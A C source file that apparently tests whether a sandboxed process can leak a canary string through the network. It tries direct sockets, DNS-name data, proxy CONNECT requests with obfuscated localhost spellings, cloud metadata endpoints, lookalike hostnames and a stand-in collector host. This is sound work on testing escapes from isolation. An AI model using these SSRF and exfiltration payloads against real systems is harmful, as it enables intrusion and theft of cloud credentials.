// Out past the way out: sockets straight to the world, names that carry data, and a proxy asked for
// what no policy grants.
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"

static const char *const here[] = {"127.0.0.1", "0.0.0.0", "127.9.8.7", "::1", "::ffff:127.0.0.1"};
static const char *const elsewhere[] = {"169.254.169.254", "fd00:ec2::254", "10.0.0.1", "192.168.0.1",
                                        "100.100.100.200", "1.1.1.1", "2606:4700:4700::1111"};

static void shout(const char *address, int port, int kind, const char *words) {
  int peer = reach(address, port, kind);
  if (peer < 0) return;
  say(peer, words);
  if (kind == SOCK_STREAM) hear(peer);
  close(peer);
}

int attack_direct_tcp(void) {
  for (size_t i = 0; i < sizeof here / sizeof *here; i++)
    shout(here[i], param_port("sink"), SOCK_STREAM, CANARY " tcp\n");
  // Nobody listens on this port, and it is seen all the same.
  for (size_t i = 0; !is_control() && i < sizeof elsewhere / sizeof *elsewhere; i++)
    shout(elsewhere[i], param_port("sink"), SOCK_STREAM, CANARY " tcp\n");
  return said();
}

int attack_direct_udp(void) {
  for (size_t i = 0; i < sizeof here / sizeof *here; i++)
    shout(here[i], param_port("sink"), SOCK_DGRAM, CANARY " udp\n");
  for (size_t i = 0; !is_control() && i < sizeof elsewhere / sizeof *elsewhere; i++)
    shout(elsewhere[i], param_port("sink"), SOCK_DGRAM, CANARY " udp\n");
  return said();
}

int attack_direct_quic(void) {
  // The long header of an Initial packet, version 1, and what is to leave as its connection's name.
  char packet[1200] = "\xC3\x01\x01\x01\x01\x16" CANARY " quic";
  int peer = reach("127.0.0.1", param_port("sink"), SOCK_DGRAM);
  if (peer >= 0 && send(peer, packet, sizeof packet, 0) > 0) close(peer);
  for (int i = 0; !is_control() && i < 3; i++) shout(elsewhere[i], 443, SOCK_DGRAM, packet);
  return said();
}

int attack_address_literal(void) {
  char *words = text("GET /" CANARY " HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", param_port("sink"));
  shout("127.0.0.1", param_port("sink"), SOCK_STREAM, words);
  // The ports that are listened on for every address there is.
  for (size_t i = 0; !is_control() && i < sizeof elsewhere / sizeof *elsewhere; i++) {
    shout(elsewhere[i], 80, SOCK_STREAM, words);
    shout(elsewhere[i], 443, SOCK_STREAM, words);
  }
  return said();
}

int attack_name_data(void) {
  static const int kinds[] = {1, 28, 16, 10, 255, 5, 15, 33, 65};
  static const char *const servers[] = {"127.0.0.1", "198.18.0.1", "1.1.1.1", "::1"};
  unsigned char bytes[512];
  size_t size = 0;
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
    size = question(bytes, CANARY ".some.more.data.example.net", kinds[i]);
    // Unsealed the service that hears is the sink.
    for (int k = 0; k < (is_control() ? 1 : 4); k++) {
      int peer = reach(servers[k], is_control() ? param_port("sink") : 53, SOCK_DGRAM);
      if (peer >= 0 && send(peer, bytes, size, 0) > 0 && k < 2 && !is_control()) hear(peer);
      if (peer >= 0) close(peer);
    }
  }
  return said();
}

int attack_connect_literal(void) {
  static const char *const spellings[] = {
      "127.0.0.1",   "127.1",           "2130706433",     "0x7f000001",   "0177.0.0.1",   "127.0.0.1.",
      "0",           "0.0.0.0",         "[::1]",          "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
      "[0:0:0:0:0:0:0:1]", "[::]",      "[::127.0.0.1]",  "[64:ff9b::7f00:1]",  "[::1%25lo]", "127.0.0.1%00.up.example.com",
      "up.example.com@127.0.0.1"};
  for (size_t i = 0; i < sizeof spellings / sizeof *spellings; i++) {
    int port = param_port("sink"), peer = reach_proxy();
    say(peer, text("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n", spellings[i], port, spellings[i], port));
    hear(peer);
    say(peer, CANARY " tunnel\n");
    close(peer);
    peer = reach_proxy();
    say(peer, text("GET http://%s:%d/" CANARY " HTTP/1.1\r\nHost: %s:%d\r\n\r\n", spellings[i], port, spellings[i], port));
    hear(peer);
    close(peer);
  }
  return said();
}

int attack_connect_metadata(void) {
  static const char *const names[] = {"169.254.169.254:80", "[fd00:ec2::254]:80", "metadata.google.internal:80",
                                      "metadata:80", "instance-data:80", "0xa9fea9fe:80", "2852039166:80",
                                      "[::ffff:169.254.169.254]:80", "169.254.170.2:80", "100.100.100.200:80"};
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
    int peer = reach_proxy();
    say(peer, text("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", names[i], names[i]));
    const char *answer = hear(peer);
    say(peer, "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n" CANARY "\n");
    if (strncmp(answer, "HTTP/1.1 200", 12) == 0) return goal("a tunnel to %s", names[i]);
    close(peer);
  }
  return said();
}

int attack_connect_lookalike(void) {
  static const char *const names[] = {"up.example.com.evil.example.net", "evil-up.example.com", "up.example.com.",
                                      "sub.up.example.com", "example.com", "localhost", "up.example.com%2eevil.net",
                                      "xn--up-example.com", "up\343\200\202example.com", "127.0.0.1#.up.example.com"};
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
    int peer = reach_proxy();
    // Also for the granted name itself: the port is another one.
    say(peer, text("CONNECT %s:%d HTTP/1.1\r\n\r\n", names[i], param_port("sink")));
    hear(peer);
    say(peer, CANARY " lookalike\n");
    close(peer);
  }
  return said();
}

int attack_ungranted_name(void) {
  char *words = "GET /" CANARY " HTTP/1.1\r\nHost: collector.example.net\r\n\r\n";
  try_say("collector.example.net", is_control() ? param_port("sink") : 80, words);
  try_say("up.example.com", param_port("sink"), words);
  if (!is_control()) try_say("collector.example.net", 443, words);
  return said();
}

// Standard input is a socket of the caller's network, which can be connected to something else.
int attack_descriptor_socket(void) {
  struct tries tries = {0};
  struct sockaddr none = {.sa_family = AF_UNSPEC};
  int other = reach("127.0.0.1", param_port("sink"), SOCK_STREAM);
  struct sockaddr_storage sink;
  socklen_t size = sizeof sink;
  if (other >= 0) getpeername(other, (struct sockaddr *)&sink, &size);
  attempt(&tries, "disconnect", connect(0, &none, sizeof none));
  attempt(&tries, "connect elsewhere", connect(0, (struct sockaddr *)&sink, size));
  say(0, CANARY " by standard input\n");
  usleep(20000);
  return conclude(&tries);
}
